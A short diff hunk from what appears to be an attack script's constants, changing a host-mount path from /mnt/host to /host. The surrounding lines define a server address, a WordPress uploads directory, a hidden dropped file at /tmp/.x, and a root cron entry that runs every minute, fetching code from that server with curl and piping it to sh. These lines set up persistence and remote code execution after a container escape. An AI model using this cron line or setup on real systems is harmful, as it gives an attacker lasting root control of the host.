@@ -16,7 +16,7 @@ SERVER: Final = "203.0.113.77"
 _WEB_UID: Final = 33
 _UPLOADS: Final = "/var/www/html/wp-content/uploads/2026/01"
 _DROPPED: Final = "/tmp/.x"
-_HOST: Final = "/mnt/host"
+_HOST: Final = "/host"
 _JOB: Final = f"* * * * * root curl -fsSL http://{SERVER}:8080/c | sh"
 
 
